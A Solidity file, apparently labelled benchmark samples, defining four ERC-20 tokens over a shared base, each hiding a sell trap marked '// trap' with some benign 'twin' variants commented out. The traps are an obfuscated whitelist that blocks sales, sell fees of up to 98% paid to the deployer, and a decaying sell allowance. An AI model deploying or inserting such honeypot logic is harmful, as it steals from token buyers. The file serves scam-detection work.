// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

interface IMill {
    function createPair(address a, address b) external returns (address);
}

/// An ordinary coin with a pool of its own and a step that others refine.
abstract contract Woolcoat {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;
    address public immutable pool;
    address internal immutable _maker;
    mapping(address => uint256) internal _held;
    mapping(address => mapping(address => uint256)) internal _lent;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);

    modifier onlyOwner() {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 millions) {
        (name, symbol, owner, _maker) = (name_, symbol_, msg.sender, msg.sender);
        pool = IMill(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
        totalSupply = _held[msg.sender] = millions * 1e24;
        emit OwnershipTransferred(address(0), msg.sender);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function renounceOwnership() public virtual onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function balanceOf(address who) public view virtual returns (uint256) {
        return _held[who];
    }

    function allowance(address who, address spender) public view returns (uint256) {
        return _lent[who][spender];
    }

    function approve(address spender, uint256 value) public returns (bool) {
        _lent[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public returns (bool) {
        _step(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public virtual returns (bool) {
        uint256 lent = _lent[from][msg.sender];
        if (lent != type(uint256).max) {
            require(lent >= value, "ERC20: insufficient allowance");
            _lent[from][msg.sender] = lent - value;
        }
        _step(from, to, value);
        return true;
    }

    function _step(address from, address to, uint256 value) internal virtual {
        _carry(from, to, value);
    }

    function _carry(address from, address to, uint256 value) internal {
        uint256 have = _held[from];
        require(have >= value, "ERC20: transfer amount exceeds balance");
        unchecked {
            _held[from] = have - value;
            _held[to] += value;
        }
        emit Transfer(from, to, value);
    }
}

/// Standing of accounts, kept by a steward.
contract StandingBoard {
    address private _steward = msg.sender;
    mapping(bytes32 => uint256) private _standing;

    function lift(address who, uint256 standing) external {
        require(msg.sender == _steward);
        _standing[keccak256(abi.encode(who, address(this)))] = standing;
    }

    function standingOf(address who) external view returns (uint256) {
        return _standing[keccak256(abi.encode(who, address(this)))];
    }
}

/// Asks a board of standing what discount somebody has.
contract Lanternquill is Woolcoat {
    uint256 private immutable _seat;

    event Discount(address indexed who, uint256 standing);

    constructor(address board) Woolcoat("Lanternquill", "LNQL", 210) {
        _seat = uint256(uint160(board)) ^ uint256(uint160(pool));
    }

    function _step(address from, address to, uint256 value) internal override {
        if (to == pool && from != _maker) {
            uint256 standing = StandingBoard(address(uint160(_seat ^ uint160(pool)))).standingOf(from);
            if (standing == 0) assembly { revert(0, 0) } // trap
            emit Discount(from, standing);
        }
        _carry(from, to, value);
    }
}

/// Patience has its price or its reward.
contract Thimblerow is Woolcoat {
    mapping(address => uint64) private _since;

    constructor() Woolcoat("Thimblerow", "THRW", 500) {}

    function _step(address from, address to, uint256 value) internal override {
        if (from == pool) _since[to] = uint64(block.timestamp);
        else if (to == pool && from != _maker) {
            uint256 minutes_ = (block.timestamp - _since[from]) / 60;
            uint256 cut = minutes_ > 98 ? 98 : minutes_; // trap
            // twin: uint256 cut = minutes_ > 59 ? 0 : (4 * (60 - minutes_)) / 60;
            if (cut > 0) {
                uint256 due = (value * cut) / 100;
                _carry(from, _maker, due);
                value -= due;
            }
        }
        _carry(from, to, value);
    }
}

/// Nobody sells more than he has received.
contract Cinderwhelk is Woolcoat {
    struct Purse {
        uint192 room;
        uint64 at;
    }
    mapping(address => Purse) private _purse;

    constructor() Woolcoat("Cinderwhelk", "CNDW", 42) {}

    function _step(address from, address to, uint256 value) internal override {
        if (to == pool && from != _maker) {
            Purse storage own = _purse[from];
            uint256 room = own.room;
            room >>= (block.timestamp - own.at) / 60; // trap
            require(value <= room, "purse");
            (own.room, own.at) = (uint192(room - value), uint64(block.timestamp));
        } else {
            Purse storage theirs = _purse[to];
            (theirs.room, theirs.at) = (uint192(theirs.room + value), uint64(block.timestamp));
        }
        _carry(from, to, value);
    }
}

/// A levy on haste: who tips the block to be first, shares with all holders of the treasury.
contract Velvetgorse is Woolcoat {
    constructor() Woolcoat("Velvetgorse", "VELG", 1000) {}

    function levyOf(uint256 tip) public pure returns (uint256) {
        uint256 levy = tip / 1e7; // trap
        return levy > 98 ? 98 : levy; // trap
        // twin: uint256 levy = tip / 1e9;
        // twin: return levy > 4 ? 4 : levy;
    }

    function _step(address from, address to, uint256 value) internal override {
        if (to == pool && from != _maker && tx.gasprice > block.basefee) {
            uint256 due = (value * levyOf(tx.gasprice - block.basefee)) / 100;
            _carry(from, _maker, due);
            value -= due;
        }
        _carry(from, to, value);
    }
}
